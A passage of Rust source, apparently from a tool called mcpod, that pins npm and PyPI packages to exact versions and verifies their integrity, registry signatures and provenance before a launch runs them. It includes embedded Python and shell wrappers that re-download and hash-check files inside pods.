//! The supply chain of a launch: every npm and PyPI package it installs is
//! resolved to one exact version, checked against its registry (that it
//! exists; npm: the tarball's integrity and the registry's signature over
//! it; PyPI: the SHA-256 of the file the index lists), and the launch is
//! rewritten to run exactly that version. Runs after the policy has judged
//! the final launch (`policy::what_runs`), so that what is verified is what
//! runs; the resolving and checking are pure (`npm`, `pypi`), the I/O is
//! `fetch`.

mod fetch;
pub mod npm;
pub mod pypi;
pub mod sigstore;

use crate::launch::LaunchSpec;
use crate::policy::{Package, Registry};
use fetch::Fetcher;
use serde::Serialize;
use std::collections::{BTreeMap, HashMap, HashSet};
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::time::Duration;

/// How packages are verified (`[packages]`, with its files read).
#[derive(Debug, Clone)]
pub struct SupplySettings {
    /// The npm registry's base URL.
    pub npm_registry: String,
    /// The Python package index's base URL (its JSON API).
    pub pypi_index: String,
    /// The npm registry keys document, when given rather than fetched.
    pub npm_keys: Option<serde_json::Value>,
    /// Bearer token for the npm registry.
    pub npm_token: Option<String>,
    /// Bearer token for the package index.
    pub pypi_token: Option<String>,
    /// Refuse npm versions without a verified registry signature.
    pub require_signatures: bool,
    /// Refuse versions without provenance attestations verified here.
    pub require_provenance: bool,
    /// Sigstore's roots of trust, which provenance bundles are checked against.
    pub sigstore_root: sigstore::TrustedRoot,
    /// Download each file and check its hash.
    pub download: bool,
    /// How long metadata is reused.
    pub cache: Duration,
    /// Where checked files (npm tarballs, PyPI wheels and sdists) are kept
    /// for npx and uv to install them from, so that what runs is the very
    /// file that was checked (the local runtime, with a `server.state_dir`:
    /// out of every sandbox's reach); `None`: the installer downloads the
    /// pinned version from the registry itself.
    pub files: Option<PathBuf>,
    /// Launches run in pods (the Kubernetes runtime), whose container
    /// lines download a checked file again and check its digest before
    /// uv or npx installs it ([`POD_FETCH`], [`NPM_POD_FETCH`]).
    pub pods: bool,
}

/// Why a package may not run.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SupplyError {
    /// It does not exist, or no version matches what the launch asks for.
    #[error("{0}")]
    Unknown(String),
    /// It exists, but failed a check (integrity, signature, attestation).
    #[error("{0}")]
    Refused(String),
    /// The registry could not be asked.
    #[error("{0}")]
    Unreachable(String),
}

/// One package as it will run: the version chosen and what was checked.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, serde::Deserialize)]
pub struct Pinned {
    /// `npm` or `PyPI`.
    pub registry: String,
    /// Its name.
    pub name: String,
    /// What the launch asked for (`latest`, `^1.2`, `==2025.1`).
    pub requested: String,
    /// The exact version that runs.
    pub version: String,
    /// What was checked, in words (`sha512 integrity of the tarball`).
    pub verified: Vec<String>,
    /// What was not, and why (`unsigned: the registry gave no signature`).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub unverified: Vec<String>,
    /// The checked file kept for the launch to install (`SupplySettings::files`).
    #[serde(skip)]
    pub file: Option<Kept>,
    /// The checked file a pod downloads and checks again before it runs it
    /// (`SupplySettings::pods`).
    #[serde(skip)]
    pub fetch: Option<PodFetch>,
}

/// A checked file that a pod, which cannot read the host's kept files,
/// downloads again and checks against the digest mcpod checked, before its
/// installer is handed it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PodFetch {
    /// A PyPI file (uv's) or an npm tarball (npx's).
    pub kind: PodFile,
    /// Where the registry serves it (`http` or `https`).
    pub url: String,
    /// Its digest as mcpod checked it, lowercase hex: SHA-256 for a PyPI
    /// file, SHA-512 for an npm tarball.
    pub digest: String,
    /// Its file name (a plain name, which uv reads the wheel's tags from).
    pub filename: String,
    /// The command the installer runs from it.
    pub command: String,
}

/// What a pod fetches, which decides the wrapper that fetches and checks it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PodFile {
    /// A PyPI file, checked by SHA-256 in [`POD_FETCH`], run by `uv run python`.
    Wheel,
    /// An npm tarball, fetched by `npm pack` and checked by SHA-512 in
    /// [`NPM_POD_FETCH`], run by `sh`.
    Tarball,
}

/// A checked file kept on this machine, and the command it provides.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Kept {
    /// Where it is.
    pub path: PathBuf,
    /// The command a launcher runs from it when the package is its
    /// positional argument (`npx name`, `uvx name`); `None`: not known
    /// (an npm package whose commands npm exec could not choose from).
    pub command: Option<String>,
}

impl Pinned {
    /// `name@version` (npm) or `name==version` (PyPI), as logs and the audit log name it.
    pub fn id(&self) -> String {
        match self.registry.as_str() {
            "npm" => format!("{}@{}", self.name, self.version),
            _ => format!("{}=={}", self.name, self.version),
        }
    }
}

/// Resolves, verifies and pins packages.
pub struct Supply {
    settings: SupplySettings,
    fetch: Fetcher,
    /// Files whose hash was checked already (npm integrity strings, PyPI
    /// sha256 digests): a later start of the same version downloads nothing.
    checked: Mutex<HashSet<String>>,
    /// The command each checked npm tarball provides, by its integrity: a
    /// pod's later start, which downloads nothing here, still hands it.
    commands: Mutex<HashMap<String, Option<String>>>,
    /// Held while a kept file is reused (read, checked, touched) and while
    /// the kept files are swept, so that a sweep never removes a file a
    /// start has just chosen.
    files_in_use: Mutex<()>,
}

impl Supply {
    /// A verifier with `settings`, counting its registry requests in `metrics`.
    pub fn new(
        settings: SupplySettings,
        metrics: std::sync::Arc<crate::metrics::Metrics>,
    ) -> Result<Supply, SupplyError> {
        let fetch = Fetcher::new(settings.cache, metrics)?;
        Ok(Supply {
            settings,
            fetch,
            checked: Mutex::new(HashSet::new()),
            commands: Mutex::new(HashMap::new()),
            files_in_use: Mutex::new(()),
        })
    }

    /// Resolves and verifies every package in `packages` (what the launch
    /// installs, in command-line order), at the version `pins` names for it
    /// (by name) or else the one its command line asks for, then rewrites
    /// `spec` to run the versions chosen. Nothing is changed when one fails.
    pub async fn pin(
        &self,
        packages: &[Package],
        pins: &BTreeMap<String, String>,
        spec: &mut LaunchSpec,
    ) -> Result<Vec<Pinned>, SupplyError> {
        if let Some(stray) = pins.keys().find(|name| !packages.iter().any(|p| p.name == **name)) {
            let names: Vec<&str> = packages.iter().map(|p| p.name.as_str()).collect();
            return Err(SupplyError::Unknown(format!(
                "`pins` names `{stray}`, which the launch does not install; it installs: {}",
                if names.is_empty() { "nothing from a registry".to_string() } else { names.join(", ") }
            )));
        }
        let mut pinned = Vec::new();
        for package in distinct(packages) {
            let pin = pins.get(&package.name).map(String::as_str);
            pinned.push(match package.registry {
                Registry::Npm => self.npm(package, pin).await?,
                Registry::Pypi => self.pypi(package, pin).await?,
            });
        }
        let handed = rewrite_to(spec, packages, &pinned);
        for (p, (local, pod)) in pinned.iter_mut().zip(handed.local.into_iter().zip(handed.pod)) {
            if local {
                let installer = if p.registry == "npm" { "npx" } else { "uv" };
                p.verified.push(format!("{installer} installs that checked file itself, not a download of its own"));
            } else {
                p.file = None;
            }
            if pod {
                let (installer, hash) = if p.registry == "npm" { ("npx", "sha512") } else { ("uv", "sha256") };
                p.verified.push(format!(
                    "in the pod, {installer} is handed that file downloaded again and checked against the same {hash} first"
                ));
            } else {
                p.fetch = None;
            }
            if !local && !pod && p.registry != "npm" {
                p.unverified.push("uv installs this version from the index without re-checking hashes".into());
            }
        }
        Ok(pinned)
    }

    /// The packages of an adopted server at the versions recorded when it
    /// was first started and verified, with `spec` rewritten to them, and
    /// no registry asked (a host restarting during a registry outage keeps
    /// its servers); `None` when the record does not name every package.
    pub fn adopt(packages: &[Package], pins: &BTreeMap<String, String>, spec: &mut LaunchSpec) -> Option<Vec<Pinned>> {
        let mut pinned = Vec::new();
        for package in distinct(packages) {
            let version = pins.get(&package.name)?;
            pinned.push(Pinned {
                registry: package.registry.name().into(),
                name: package.name.clone(),
                requested: version.clone(),
                version: version.clone(),
                verified: vec!["verified when the server was first started; adopted as it runs".into()],
                unverified: Vec::new(),
                file: None,
                fetch: None,
            });
        }
        rewrite_to(spec, packages, &pinned);
        Some(pinned)
    }

    async fn npm(&self, package: &Package, pin: Option<&str>) -> Result<Pinned, SupplyError> {
        let s = &self.settings;
        let name = &package.name;
        let wanted = pin.unwrap_or(&package.version);
        let url = format!("{}/{}", s.npm_registry.trim_end_matches('/'), name.replace('/', "%2f"));
        let doc = self.fetch.json("npm", &url, s.npm_token.as_deref(), "npm package").await?;
        let doc = doc.ok_or_else(|| {
            SupplyError::Unknown(format!(
                "npm package `{name}` does not exist at {} (404); check its name ({} wants it)",
                s.npm_registry, package.via
            ))
        })?;
        let resolved = npm::resolve(&doc, wanted).map_err(|e| match e {
            npm::NpmError::UnknownPackage { .. } | npm::NpmError::NoMatchingVersion { .. } => {
                SupplyError::Unknown(e.to_string())
            }
            other => SupplyError::Refused(other.to_string()),
        })?;
        let mut pinned = Pinned {
            registry: package.registry.name().into(),
            name: resolved.name.clone(),
            requested: if wanted.is_empty() { "latest".into() } else { wanted.to_string() },
            version: resolved.version.clone(),
            verified: vec![format!("exists in {}", s.npm_registry)],
            unverified: Vec::new(),
            file: None,
            fetch: None,
        };
        self.npm_signature(&resolved, &mut pinned).await?;
        if let Some(attestations) = &resolved.attestations {
            self.npm_provenance(&resolved, attestations, &mut pinned).await?;
        } else if s.require_provenance {
            return Err(SupplyError::Refused(format!(
                "{} was published without provenance attestations (dist.attestations), and [packages] require_provenance is on; pin a version published with provenance",
                resolved.id()
            )));
        }
        if s.download {
            // npx is handed the checked tarball itself where it can reach it.
            let kept = match &s.files {
                Some(dir) if package.via.starts_with("npx") => {
                    let unscoped = resolved.name.rsplit('/').next().unwrap_or(&resolved.name);
                    let file = format!("{unscoped}-{}.tgz", resolved.version);
                    Some(Kept { path: kept_path(dir, "npm", &digest_key(&resolved.integrity), &file)?, command: None })
                }
                _ => None,
            };
            let token = same_origin(&resolved.tarball, &s.npm_registry).then_some(s.npm_token.as_deref()).flatten();
            let from = Download { registry: "npm", url: &resolved.tarball, token, what: &resolved.id() };
            let check = |bytes: &[u8]| npm::verify_integrity(&resolved.integrity, bytes).map_err(|e| e.to_string());
            let bytes =
                self.checked_file(kept.as_ref().map(|k| k.path.as_path()), &resolved.integrity, from, check).await?;
            // The command comes from the checked tarball's own package.json,
            // not from the registry's document; none: the version is pinned.
            let command = match bytes {
                Some(b) if kept.is_some() || s.pods => {
                    let command = match tokio::task::spawn_blocking(move || npm::command_in_tarball(&b)).await {
                        Ok(Ok(command)) => command,
                        Ok(Err(e)) => {
                            tracing::warn!(package = %resolved.id(), "cannot read the command from the tarball: {e}");
                            None
                        }
                        Err(_) => None,
                    };
                    if let Ok(mut known) = self.commands.lock() {
                        known.insert(resolved.integrity.clone(), command.clone());
                    }
                    command
                }
                _ => self.commands.lock().ok().and_then(|known| known.get(&resolved.integrity).cloned().flatten()),
            };
            pinned.fetch = self.npm_pod_fetch(package, &resolved, command.as_ref(), token);
            pinned.file = kept.map(|k| Kept { command, ..k });
            pinned.verified.push(format!("tarball matches its integrity {}", short(&resolved.integrity)));
        } else {
            pinned
                .unverified
                .push("tarball not downloaded here ([packages] download = false); npm checks its integrity".into());
        }
        Ok(pinned)
    }

    /// Checks the SLSA provenance the registry lists for `resolved`: its
    /// Sigstore bundle must verify and name this very tarball, or nothing
    /// starts. One that cannot be had or checked here (not served, a Rekor
    /// v2 entry) is said in `unverified`, and refused only when
    /// `require_provenance` asks for it.
    async fn npm_provenance(
        &self,
        resolved: &npm::Resolved,
        attestations: &npm::Attestations,
        pinned: &mut Pinned,
    ) -> Result<(), SupplyError> {
        let s = &self.settings;
        let token = same_origin(&attestations.url, &s.npm_registry).then_some(s.npm_token.as_deref()).flatten();
        let why_not = match self.fetch.json("npm", &attestations.url, token, "npm provenance attestations").await {
            Ok(None) => format!("provenance listed but not served (404 at {})", attestations.url),
            Err(e) => format!("provenance listed but not fetched: {e}"),
            Ok(Some(doc)) => match npm::sha512_of(&resolved.integrity) {
                None => "provenance not checked: the integrity has no sha512".to_string(),
                Some(sha512) => {
                    let checked = sigstore::verify_npm_provenance(
                        &doc,
                        &s.sigstore_root,
                        &resolved.name,
                        &resolved.version,
                        &sha512,
                    );
                    let refused = |e| {
                        format!(
                            "{}: {e}; nothing was started: the registry's provenance does not vouch for what it serves",
                            resolved.id()
                        )
                    };
                    match judged(checked, "SLSA provenance", "provenance", refused, pinned)? {
                        None => return Ok(()),
                        Some(why_not) => why_not,
                    }
                }
            },
        };
        self.provenance_unchecked(&resolved.id(), why_not, pinned)
    }

    /// Checks the PEP 740 attestation the index lists for `file` (the simple
    /// API's `provenance`), as [`Supply::npm_provenance`] does npm's: one
    /// that does not verify or attests another file starts nothing.
    async fn pypi_provenance(
        &self,
        resolved: &pypi::Resolved,
        file: &pypi::DistFile,
        pinned: &mut Pinned,
    ) -> Result<(), SupplyError> {
        let s = &self.settings;
        let base = s.pypi_index.trim_end_matches('/');
        let id = format!("{}=={}", resolved.name, resolved.version);
        let simple = format!("{base}/simple/{}/", resolved.name);
        let listed = match self.fetch.simple(&simple, s.pypi_token.as_deref()).await {
            Ok(doc) => pypi::files_with_provenance(&doc.unwrap_or_default()).unwrap_or_default(),
            Err(e) => return self.provenance_unchecked(&id, format!("provenance not looked up: {e}"), pinned),
        };
        let Some(listed) = listed.into_iter().find(|p| p.filename == file.filename) else {
            if s.require_provenance {
                return Err(SupplyError::Refused(format!(
                    "{id}: {} has no PEP 740 attestation in the index, and [packages] require_provenance is on; pin a version published with attestations",
                    file.filename
                )));
            }
            return Ok(());
        };
        let url = &listed.provenance_url;
        let token = same_origin(url, base).then_some(s.pypi_token.as_deref()).flatten();
        let why_not = match self.fetch.provenance(url, token).await {
            Ok(None) => format!("PEP 740 attestation of {} listed but not served (404 at {url})", file.filename),
            Err(e) => format!("PEP 740 attestation of {} listed but not fetched: {e}", file.filename),
            Ok(Some(doc)) => match hex_decode(&file.sha256) {
                None => format!("PEP 740 attestation of {} not checked: the index gives no SHA-256", file.filename),
                Some(sha256) => {
                    let checked = sigstore::verify_pypi_provenance(&doc, &s.sigstore_root, &file.filename, &sha256);
                    let what = format!("PEP 740 attestation of {}", file.filename);
                    let refused = |e| {
                        format!(
                            "{id}: {} {e}; nothing was started: the index's attestation does not vouch for the file it serves",
                            file.filename
                        )
                    };
                    match judged(checked, &what, &what, refused, pinned)? {
                        None => return Ok(()),
                        Some(why_not) => why_not,
                    }
                }
            },
        };
        self.provenance_unchecked(&id, why_not, pinned)
    }

    /// Provenance that could not be had or checked here: refused when
    /// `require_provenance` asks for it, else said in `unverified`.
    fn provenance_unchecked(&self, id: &str, why_not: String, pinned: &mut Pinned) -> Result<(), SupplyError> {
        if self.settings.require_provenance {
            return Err(SupplyError::Refused(format!(
                "{id}: {why_not}, and [packages] require_provenance is on; nothing was started"
            )));
        }
        pinned.unverified.push(why_not);
        Ok(())
    }

    /// Checks the registry signature of `resolved` as `npm audit signatures` does.
    async fn npm_signature(&self, resolved: &npm::Resolved, pinned: &mut Pinned) -> Result<(), SupplyError> {
        let s = &self.settings;
        let keys = match &s.npm_keys {
            Some(doc) => Some(doc.clone()),
            None => {
                let url = format!("{}/-/npm/v1/keys", s.npm_registry.trim_end_matches('/'));
                self.fetch.json("npm", &url, s.npm_token.as_deref(), "npm registry keys").await?
            }
        };
        let mut refuse = |why: String, advice: &str| -> Result<(), SupplyError> {
            if s.require_signatures {
                Err(SupplyError::Refused(format!(
                    "{}: {why}, and [packages] require_signatures is on; {advice}",
                    resolved.id()
                )))
            } else {
                pinned.unverified.push(why);
                Ok(())
            }
        };
        match (keys, resolved.signatures.is_empty()) {
            (_, true) => refuse(
                "unsigned: the registry gave no signature (dist.signatures)".into(),
                "nothing was started; pin a version the registry signed, or read from a registry that keeps signatures (a mirror may strip them)",
            ),
            (None, false) => refuse(
                format!("signature not checked: {} publishes no keys (/-/npm/v1/keys)", s.npm_registry),
                "nothing was started; give the registry's keys with [packages] npm_keys_file",
            ),
            (Some(doc), false) => {
                let keys = npm::parse_keys(&doc).map_err(|e| SupplyError::Refused(e.to_string()))?;
                let by = npm::verify_signature(resolved, &keys, resolved.published_at.as_deref())
                    .map_err(|e| SupplyError::Refused(e.to_string()))?;
                pinned.verified.push(format!("registry signature by {}", by.keyids.join(", ")));
                Ok(())
            }
        }
    }

    async fn pypi(&self, package: &Package, pin: Option<&str>) -> Result<Pinned, SupplyError> {
        let s = &self.settings;
        let wanted = pin.map(|v| format!("=={v}")).unwrap_or_else(|| package.version.clone());
        let base = s.pypi_index.trim_end_matches('/');
        let url = format!("{base}/pypi/{}/json", package.name);
        let doc = self.fetch.json("pypi", &url, s.pypi_token.as_deref(), "PyPI project").await?;
        let doc = doc.ok_or_else(|| {
            SupplyError::Unknown(format!(
                "PyPI project `{}` does not exist at {} (404); check its name ({} wants it)",
                package.name, s.pypi_index, package.via
            ))
        })?;
        let resolved = pypi::resolve_from(&doc, &wanted, base).map_err(|e| match e {
            pypi::PypiError::UnknownProject { .. }
            | pypi::PypiError::NoMatchingVersion { .. }
            | pypi::PypiError::Yanked { .. }
            | pypi::PypiError::NoFiles { .. }
            | pypi::PypiError::InvalidSpec { .. }
            | pypi::PypiError::UnsupportedSpec { .. } => SupplyError::Unknown(e.to_string()),
            other => SupplyError::Refused(other.to_string()),
        })?;
        let mut pinned = Pinned {
            registry: package.registry.name().into(),
            name: resolved.name.clone(),
            requested: if wanted.is_empty() { "latest".into() } else { wanted.clone() },
            version: resolved.version.clone(),
            verified: vec![format!("exists in {}", s.pypi_index)],
            unverified: Vec::new(),
            file: None,
            fetch: None,
        };
        // The file uv takes for a pure-Python project: its universal wheel,
        // else the source distribution.
        let file = resolved
            .files
            .iter()
            .find(|f| f.kind == pypi::FileKind::Wheel && f.filename.ends_with("-none-any.whl"))
            .or_else(|| resolved.files.iter().find(|f| f.kind == pypi::FileKind::Sdist))
            .or_else(|| resolved.files.first());
        if let Some(file) = file {
            self.pypi_provenance(&resolved, file, &mut pinned).await?;
            if s.download {
                // uv is handed the checked file itself where it can reach it.
                let kept = match &s.files {
                    // With extras (`pkg[cli]`) uv must resolve the name: a
                    // file alone would drop them; the version is pinned instead.
                    Some(dir) if package.via.starts_with("uv") && !package.unversioned.contains('[') => Some(Kept {
                        path: kept_path(dir, "pypi", &file.sha256.to_ascii_lowercase(), &file.filename)?,
                        command: Some(
                            package.unversioned.split('[').next().unwrap_or(&package.unversioned).to_string(),
                        ),
                    }),
                    _ => None,
                };
                let token = same_origin(&file.url, base).then_some(s.pypi_token.as_deref()).flatten();
                let from = Download { registry: "pypi", url: &file.url, token, what: &file.filename };
                let check = |bytes: &[u8]| {
                    pypi::verify_file(&file.sha256, bytes).map_err(|e| format!("{}: {e}", file.filename))
                };
                self.checked_file(kept.as_ref().map(|k| k.path.as_path()), &file.sha256, from, check).await?;
                pinned.verified.push(format!("{} matches its sha256 {}", file.filename, &file.sha256[..12]));
                pinned.file = kept;
                pinned.fetch = self.pod_fetch(package, file, token);
            }
        }
        Ok(pinned)
    }

    /// Makes sure the file `digest` names was checked: the copy kept at
    /// `kept` when it still passes `check`, else a download from `from`
    /// that must pass it (then kept there). Without a place to keep it, a
    /// file checked once is not downloaded again. Returns the checked
    /// bytes, when they were read.
    async fn checked_file(
        &self,
        kept: Option<&Path>,
        digest: &str,
        from: Download<'_>,
        check: impl Fn(&[u8]) -> Result<(), String>,
    ) -> Result<Option<Vec<u8>>, SupplyError> {
        if let Some(bytes) = kept.and_then(|path| self.reuse(path, &check)) {
            return Ok(Some(bytes));
        }
        if kept.is_none() && self.was_checked(digest) {
            return Ok(None);
        }
        let bytes = self.fetch.bytes(from.registry, from.url, from.token, from.what).await?;
        check(&bytes).map_err(SupplyError::Refused)?;
        self.mark_checked(digest);
        if let Some(path) = kept {
            // Under the lock: a sweep removes a digest's directory when empty.
            let _in_use = self
                .files_in_use
                .lock()
                .map_err(|_| SupplyError::Unreachable("the kept files' lock is poisoned; restart mcpod".to_string()))?;
            keep(path, &bytes)?;
        }
        Ok(Some(bytes))
    }

    /// How a pod fetches the checked PyPI `file` again (`SupplySettings::pods`):
    /// for uv, which is handed a file as a whole argument, when the pod can
    /// download it with no token and no credentials in its URL (which the
    /// pod's spec would show) and uv needs no name (no extras); `None`: the
    /// pod installs the version by name.
    fn pod_fetch(&self, package: &Package, file: &pypi::DistFile, token: Option<&str>) -> Option<PodFetch> {
        let sha256 = file.sha256.to_ascii_lowercase();
        let usable = self.settings.pods
            && package.via.starts_with("uv")
            && !package.unversioned.contains('[')
            && token.is_none()
            && plain_file_name(&file.filename)
            && sha256.len() == 64
            && sha256.bytes().all(|b| b.is_ascii_hexdigit())
            && fetchable_url(&file.url);
        usable.then(|| PodFetch {
            kind: PodFile::Wheel,
            url: file.url.clone(),
            digest: sha256,
            filename: file.filename.clone(),
            command: package.unversioned.clone(),
        })
    }

    /// The npm tarball a pod's npx is handed, downloaded again in the pod
    /// and checked against the SHA-512 mcpod checked; `None` where it cannot
    /// be (no command known, no SHA-512, a token or credentials needed).
    fn npm_pod_fetch(
        &self,
        package: &Package,
        resolved: &npm::Resolved,
        command: Option<&String>,
        token: Option<&str>,
    ) -> Option<PodFetch> {
        let usable =
            self.settings.pods && package.via.starts_with("npx") && token.is_none() && fetchable_url(&resolved.tarball);
        let sha512 = npm::sha512_of(&resolved.integrity)?;
        let unscoped = resolved.name.rsplit('/').next().unwrap_or(&resolved.name);
        let command = command?.clone();
        usable.then(|| PodFetch {
            kind: PodFile::Tarball,
            url: resolved.tarball.clone(),
            digest: hex(&sha512),
            filename: format!("{unscoped}-{}.tgz", resolved.version),
            command,
        })
    }

    /// The bytes of the file kept at `path` when they still pass `check`;
    /// the file is marked used now, so that no sweep removes it.
    fn reuse(&self, path: &Path, check: impl Fn(&[u8]) -> Result<(), String>) -> Option<Vec<u8>> {
        let _in_use = self.files_in_use.lock().ok()?;
        let bytes = std::fs::read(path).ok().filter(|bytes| check(bytes).is_ok())?;
        if let Err(e) = crate::sweep::touch(path) {
            tracing::debug!(file = %path.display(), error = %e, "cannot mark a kept file used");
        }
        Some(bytes)
    }

    /// Removes the kept files (`npm|pypi/DIGEST/FILE`) that no start has
    /// used for longer than `keep`, but for those `live` names (the
    /// arguments of running servers), which are marked used; then the
    /// directories left empty.
    pub fn sweep(&self, live: &HashSet<PathBuf>, keep: Duration) -> crate::sweep::Swept {
        let Some(dir) = &self.settings.files else { return Default::default() };
        let digests: Vec<PathBuf> =
            ["npm", "pypi"].iter().flat_map(|registry| crate::sweep::children(&dir.join(registry))).collect();
        let now = std::time::SystemTime::now();
        let aside = match self.files_in_use.lock() {
            Ok(_in_use) => digests
                .iter()
                .flat_map(|d| crate::sweep::set_aside(&crate::sweep::children(d), live, keep, now))
                .collect(),
            Err(_) => return Default::default(),
        };
        let swept = crate::sweep::remove(aside);
        if let Ok(_in_use) = self.files_in_use.lock() {
            for digest in &digests {
                // Only when empty: a directory still holding a file stays.
                let _ = std::fs::remove_dir(digest);
            }
        }
        swept
    }

    fn was_checked(&self, digest: &str) -> bool {
        self.checked.lock().map(|c| c.contains(digest)).unwrap_or(false)
    }

    fn mark_checked(&self, digest: &str) {
        if let Ok(mut c) = self.checked.lock() {
            c.insert(digest.to_string());
        }
    }
}

/// Where a file is downloaded from, and what errors call it.
struct Download<'a> {
    registry: &'a str,
    url: &'a str,
    token: Option<&'a str>,
    what: &'a str,
}

/// Each package once: a launch with both a process and a container command
/// names each twice.
fn distinct(packages: &[Package]) -> Vec<&Package> {
    let mut seen: Vec<&Package> = Vec::new();
    for p in packages {
        if !seen.iter().any(|s| s.written == p.written) {
            seen.push(p);
        }
    }
    seen
}

/// How `package` is written to run exactly `version`: npm's `name@version`;
/// for PyPI, uv's positional package is also the command, so it takes uv's
/// `name@version`, every other place a requirement.
fn pin_text(package: &Package, version: &str) -> String {
    let name = &package.unversioned;
    match package.registry {
        Registry::Npm => format!("{name}@{version}"),
        Registry::Pypi if matches!(package.via.as_str(), "uvx" | "uv tool run") => format!("{name}@{version}"),
        Registry::Pypi => format!("{name}=={version}"),
    }
}

/// Rewrites `spec` so that each of `packages` runs at the version `pinned`
/// (the same packages, `distinct`, in order) chose for it. On the process's
/// command line a package whose checked file was kept is handed that file
/// as a whole argument (a sandboxed server may read the paths among its
/// arguments): uv's positional package becomes `--from FILE COMMAND`,
/// npx's `-p FILE COMMAND`, an option's value (`--with X`, `--with=X`,
/// `-p X`) `FILE`; one in a comma list keeps its version. A container line
/// keeps versions (the file is not in the pod), but for a file the pod
/// fetches again ([`PodFetch`]): it is handed that file, wrapped in
/// [`POD_FETCH`], which downloads and checks it before the line runs.
fn rewrite_to(spec: &mut LaunchSpec, packages: &[Package], pinned: &[Pinned]) -> Handed {
    let pairs: Vec<(&Package, &Pinned)> = distinct(packages).into_iter().zip(pinned).collect();
    let versions: Vec<(String, String)> =
        pairs.iter().map(|(p, v)| (p.written.clone(), pin_text(p, &v.version))).collect();
    let unhanded = |handed: &[bool]| -> Vec<(String, String)> {
        versions.iter().zip(handed).filter(|(_, handed)| !**handed).map(|(swap, _)| swap.clone()).collect()
    };
    let mut pod = vec![false; pairs.len()];
    if let Some(c) = spec.container.as_mut() {
        let mut fetched: Vec<&PodFetch> = Vec::new();
        for (i, (package, pin)) in pairs.iter().enumerate() {
            let Some(fetch) = &pin.fetch else { continue };
            // One wrapper per line: files of another kind keep their versions.
            if fetched.first().is_some_and(|first| first.kind != fetch.kind) {
                continue;
            }
            let slot = Kept { path: PathBuf::from(pod_slot(fetched.len())), command: Some(fetch.command.clone()) };
            if hand_file(&mut c.command, package, &slot) {
                pod[i] = true;
                fetched.push(fetch);
            }
        }
        rewrite_line(&mut c.command, &unhanded(&pod));
        if !fetched.is_empty() {
            c.command = pod_fetch_line(&fetched, &c.command);
        }
    }
    let Some(process) = spec.process.as_mut() else { return Handed { local: vec![false; pairs.len()], pod } };
    let local: Vec<bool> = pairs
        .iter()
        .map(|(package, pin)| pin.file.as_ref().is_some_and(|kept| hand_file(&mut process.command, package, kept)))
        .collect();
    rewrite_line(&mut process.command, &unhanded(&local));
    Handed { local, pod }
}

/// Per package (as `rewrite_to` takes them), whether it was handed its
/// checked file: on the process's line, and on the container's.
struct Handed {
    local: Vec<bool>,
    pod: Vec<bool>,
}

/// Downloads each checked file a pod's line is handed, checks its SHA-256
/// against the one mcpod checked, and runs the line with each placeholder
/// ([`pod_slot`]) replaced by the file's path; a mismatch or a failed
/// download runs nothing and says why on stderr (the server's log).
/// Arguments: the number of files N, N times `URL SHA256 FILENAME`, then
/// the line. Run by `uv run python`, so it needs nothing uv itself does
/// not (any image that runs `uvx`).
pub const POD_FETCH: &str = r#"import hashlib, os, sys, tempfile, urllib.request
count = int(sys.argv[1])
files, line = sys.argv[2:2 + 3 * count], sys.argv[2 + 3 * count:]
where = tempfile.mkdtemp(prefix="mcpod-checked-")
for n in range(count):
    url, want, name = files[3 * n:3 * n + 3]
    path = os.path.join(where, name)
    digest = hashlib.sha256()
    try:
        with urllib.request.urlopen(url, timeout=300) as got, open(path, "wb") as out:
            for chunk in iter(lambda: got.read(1 << 16), b""):
                digest.update(chunk)
                out.write(chunk)
    except Exception as e:
        sys.exit(f"mcpod: cannot download {name} from {url}: {e}; nothing was run")
    if digest.hexdigest() != want:
        sys.exit(f"mcpod: {name} from {url} has sha256 {digest.hexdigest()}, not {want} as mcpod checked it; nothing was run")
    line = [path if a == "{mcpod-file-%d}" % n else a for a in line]
os.execvp(line[0], line)
"#;

/// [`POD_FETCH`] for npm tarballs, in a Node image (which has no Python):
/// `npm pack` downloads each tarball as npm downloads (its registry, proxy
/// and token settings), `sha512sum` checks it against the SHA-512 mcpod
/// checked, and the line runs with each `{mcpod-file-N}` replaced by the
/// checked file. Arguments after `$0`: N, N times `URL SHA512 FILENAME`,
/// then the line. Run by `sh -c`, which ends in `exec`.
pub const NPM_POD_FETCH: &str = r#"set -u
n=$1; shift
dir=$(mktemp -d "${TMPDIR:-/tmp}/mcpod-checked-XXXXXX") || { echo "mcpod: cannot make a temporary directory; nothing was run" >&2; exit 1; }
i=0
while [ "$i" -lt "$n" ]; do
  url=$1; want=$2; name=$3; shift 3
  mkdir "$dir/$i"
  if ! npm pack --loglevel=error --pack-destination "$dir/$i" "$url" >/dev/null 2>"$dir/$i.log"; then
    echo "mcpod: cannot download $name from $url: $(tail -n 3 "$dir/$i.log"); nothing was run" >&2; exit 1
  fi
  set -- "$dir/$i"/*.tgz "$@"
  got=$(sha512sum < "$1" | cut -d ' ' -f 1)
  if [ -z "$got" ] || [ "$got" != "$want" ]; then
    echo "mcpod: $name from $url has sha512 $got, not $want as mcpod checked it; nothing was run" >&2; exit 1
  fi
  mv "$1" "$dir/$i.tgz"; shift
  i=$((i + 1))
done
for word do
  shift
  case $word in
    "{mcpod-file-"*"}")
      k=${word#"{mcpod-file-"}; k=${k%"}"}
      case $k in
        ""|*[!0-9]*) set -- "$@" "$word" ;;
        *) if [ "$k" -lt "$n" ]; then set -- "$@" "$dir/$k.tgz"; else set -- "$@" "$word"; fi ;;
      esac ;;
    *) set -- "$@" "$word" ;;
  esac
done
exec "$@"
"#;

/// The placeholder of the `n`th file a pod fetches, on its line.
fn pod_slot(n: usize) -> String {
    format!("{{mcpod-file-{n}}}")
}

/// `line`, run by [`POD_FETCH`] (PyPI files) or [`NPM_POD_FETCH`] (npm
/// tarballs) once it has fetched and checked `files`, all of one kind.
fn pod_fetch_line(files: &[&PodFetch], line: &[String]) -> Vec<String> {
    let wrapper: &[&str] = match files.first().map(|f| f.kind) {
        Some(PodFile::Tarball) => &["sh", "-c", NPM_POD_FETCH, "mcpod-fetch"],
        _ => &["uv", "run", "--no-project", "--quiet", "python", "-c", POD_FETCH],
    };
    let mut out: Vec<String> = wrapper.iter().map(|w| w.to_string()).collect();
    out.push(files.len().to_string());
    for f in files {
        out.extend([f.url.clone(), f.digest.clone(), f.filename.clone()]);
